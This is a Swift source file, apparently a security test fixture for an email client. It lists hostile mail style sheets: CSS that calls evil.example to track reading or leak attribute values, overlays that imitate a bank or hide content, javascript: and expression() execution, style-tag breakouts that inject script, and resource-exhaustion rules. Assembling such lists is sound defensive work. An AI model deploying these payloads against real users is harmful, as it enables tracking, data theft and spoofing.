/// Style sheets of hostile mails: each tries to fetch something, to leave its message, to imitate the page, or to run something.
enum HostileStyleSheets {
    static let all = fetching + reading + moving + painting + running + parsing + growing

    /// Requests, of which each would tell the sender that the mail is being read.
    private static let fetching =
        [
            "@import 'https://evil.example/a.css';", "@import url(https://evil.example/b.css) screen;",
            "@IMPORT URL(//evil.example/c.css);",
            "@\\69mport 'https://evil.example/d.css';", "/**/@import/**/'https://evil.example/e.css';",
            "<!-- @import 'https://evil.example/f.css'; -->",
            "@charset 'utf-8';@import 'https://evil.example/g.css' layer(a) supports(color:red);",
            "@font-face{font-family:f;src:url(https://evil.example/h.woff)}p{font-family:f}",
            "@font-face{font-family:f;src:local(Arial),url('https://evil.example/i.woff');unicode-range:U+61}*{font-family:f!important}",
            "@namespace url(https://evil.example/j);", "@media print,screen{@import 'https://evil.example/k.css';}",
            "@counter-style c{system:cyclic;symbols:url(https://evil.example/l.png)}li{list-style:c}",
            "@supports (color:red){*{background:url(https://evil.example/m.png)}}",
            "@layer a{*{background:url(https://evil.example/n.png)}}",
            "@document url(https://evil.example/){*{color:red}}", "@scope (p){:scope{background:url(https://evil.example/o.png)}}",
            "@container (min-width:1px){*{background:url(https://evil.example/p.png)}}", "p{&{background:url(https://evil.example/q.png)}}",
            "p{color:red;a{background:url(https://evil.example/r.png)}}", "p{--x:url(https://evil.example/s.png);background:var(--x)}",
            ":root{--x:url(https://evil.example/t.png)}*{background-image:var(--x,url(https://evil.example/u.png))}",
            "*{background:u\\72l(https://evil.example/v.png)}", "*{background:\\75\\72\\6c(https://evil.example/w.png)}",
            "*{background:url(https://evil.example/x.png)red}", "*{background:red url( \"https://evil.example/y.png\" ) }",
            "*{background:URL(https://evil.example/z.png)}", "*{background:url/**/(https://evil.example/A.png)}",
            "*{b\\61 ckground-image:url(https://evil.example/B.png)}",
            "*{background:linear-gradient(red,blue),url(https://evil.example/C.png)}",
            "*{background:linear-gradient(red,url(https://evil.example/D.png))}",
        ]
        + [
            "background-image", "border-image", "border-image-source", "list-style-image", "list-style", "cursor", "content", "mask",
            "mask-image",
            "-webkit-mask-image", "-webkit-mask-box-image", "-webkit-box-reflect", "filter", "backdrop-filter", "clip-path",
            "shape-outside", "src",
            "behavior", "-moz-binding", "offset-path", "fill", "marker-start",
        ].map { "*,*::before,*::after{content:'x';\($0):url(https://evil.example/\($0).png)!important}" }
        + [
            "image(", "image-set(", "-webkit-image-set(", "src(", "cross-fade(", "-webkit-cross-fade(", "element(#x,", "paint(",
        ].map { "*{background-image:\($0)'https://evil.example/f.png' 1x,50%)}" }

    /// Conditions that tell something about the content or the reader.
    private static let reading = [
        "a[href^='https://e']{background:url(https://evil.example/a)}", "input[value^=a]{background:url(https://evil.example/b)}",
        "a:visited{background:url(https://evil.example/c)}", ":root:has(a){background:url(https://evil.example/d)}",
        "a:hover{background:url(https://evil.example/e)}", "@media (min-width:1px){*{background:url(https://evil.example/f)}}",
        "@media (prefers-color-scheme:light){*{list-style-image:url(https://evil.example/g)}}",
        "::selection{background:url(https://evil.example/h)}", "p::first-line{background:url(https://evil.example/i)}",
        "p::after{content:attr(title) url(https://evil.example/j)}", "a:target,:focus-within{background:url(https://evil.example/k)}",
        ":lang(en){background:url(https://evil.example/l)}", "html:not(.white){background:url(https://evil.example/m)}",
    ]

    /// Boxes over the page, or over the other parts of the frame.
    private static let moving = [
        "p{position:fixed;inset:0;background:red;z-index:99999}", "p{position:absolute;top:-900px;left:-900px}", "p{position:sticky;top:0}",
        "p{position:relative;top:-500px}", "*{position:f\\69xed}", "*{position:fixed!important}", "p{posit/**/ion:fixed}",
        "p{margin:-500px}", "p{margin-top:calc(0px - 500px)}", "p{margin:0 0 -1e3px}", "p{transform:translate(-900px,-900px)scale(9)}",
        "p{translate:-900px -900px}", "p{rotate:90deg;scale:9}", "p{text-indent:-900px;letter-spacing:-9px;word-spacing:-99px}",
        "p{box-shadow:0 0 0 9999px red;outline:9999px solid red}", "p{text-shadow:-900px -900px red}",
        "a{display:block;float:left;margin-left:-900px}",
        "p{inset:-900px;top:-900px;left:-900px}", "p{float:left;shape-outside:circle(900px);clip:rect(0,0,0,0)}",
        "p{offset:path('M0 0L9 9');zoom:99}", "p{perspective:1px;will-change:transform;contain:layout}", "p{view-transition-name:x}",
        "p{anchor-name:--a}a{position-anchor:--a;position:fixed}", "p{columns:99;column-span:all}",
        "p{vertical-align:-900px;margin-inline:-900px}",
    ]

    /// Styles of the page's own parts.
    private static let painting = [
        "html,body{background:red!important;margin:99px!important;overflow:scroll!important}",
        "#content,#own,#quoted{display:none!important}",
        "#quoted{display:block!important}", "*+*,:root+*,body~*{display:none}", ":root{display:none}", ":host{display:none}",
        "[data-waiting]{display:none!important}", "img[data-remote-src]{display:block!important}", "html.white{background:red}",
        "body:not(p) *{cursor:url(https://evil.example/x),none;pointer-events:none;user-select:none}", "*{all:revert;content:'owned'}",
        "p::before{content:'Sent by your bank';counter-increment:a}", "@page{margin:0;size:1px}", "@media print{*{display:none}}",
        "@property --x{syntax:'*';inherits:true;initial-value:red}", "*{color-scheme:dark;forced-color-adjust:none;accent-color:red}",
        "style{display:block!important}", "head,title{display:block}", "::-webkit-scrollbar{background:url(https://evil.example/y)}",
    ]

    /// Scripts, animations and other things that run.
    private static let running = [
        "@keyframes k{from{color:red}to{color:blue}}*{animation:k 1s infinite}",
        "@-webkit-keyframes k{to{top:9px}}*{-webkit-animation:k 1s infinite}",
        "*{transition:all 9s}*:hover{color:red}", "@starting-style{*{opacity:0}}*{transition:opacity 9s}",
        "*{width:expression(top.document.title='owned')}", "*{background:javascript:alert(1)}", "*{background:url(javascript:alert(1))}",
        "*{-o-link:'javascript:alert(1)';-o-link-source:current}",
        "*{scroll-behavior:smooth;scroll-snap-type:y mandatory;overflow:auto;height:9px}",
        "*{animation-timeline:scroll();animation-name:k}", "*{behavior:url(#default#time2)}",
    ]

    /// Text that another parser could read in another way.
    private static let parsing = [
        "p[title='</style><script>top.document.title=\"owned\"</script>", "p{font-family:'</style><img src=https://evil.example/a>'}",
        ".\\3c\\2fstyle\\3e\\3cimg\\20src\\3dhttps\\3a\\2f\\2fevil.example\\2f b\\3e{color:red}", "p{color:red}/*</style>*/b{color:red}",
        "<!--</style>--><p>x", "p{color:red;}}}}*{background:url(https://evil.example/c)}",
        "@media print{}}*{background:url(https://evil.example/d)}",
        "p{font-family:'\\'}*{background:url(https://evil.example/e)}'}", "p{x:'\n}*{background:url(https://evil.example/f)}",
        "p{x:[(}*{background:url(https://evil.example/g)}", "p{color:rgb(1,2,3;}*{background:url(https://evil.example/h)}",
        "\u{FEFF}@import 'https://evil.example/i.css';", "\0@import 'https://evil.example/j.css';",
        "p{color:red}\\@import 'https://evil.example/k';",
        "@media screen{p{color:red}</style><base href=https://evil.example/><style>",
        "p:not(a,b{color:red}*{background:url(https://evil.example/l)}",
        "p{background:url(x\\)y);background:url(https://evil.example/m)}", "@media{*{background:url(https://evil.example/n)}}",
        "p{font-family:'a'\u{300};background:url(https://evil.example/o);'}",
    ]

    /// Content without an end.
    private static let growing = [
        "*{height:100vh;min-height:101%;padding:100vmax}", "@media (min-height:1px){p{padding-top:1999px}}",
        "@media (orientation:portrait){p{padding-top:1999px;font-size:1000px}}",
        "p{font-size:1e9px;line-height:1e9;border:99999px solid red}",
        "p{height:calc(infinity*1px);width:calc(1px/0);min-width:99999px}", "*{padding:1999px;margin:1999px;border:1999px solid}",
        String(repeating: "* ", count: 9) + "*{color:red}", String(repeating: "p:not(.a):is(p,b) ", count: 300) + "{color:red}",
        (0..<20_000).map { ".c\($0){color:red}" }.joined(), String(repeating: "@media screen{", count: 5_000) + "p{color:red}",
    ]
}
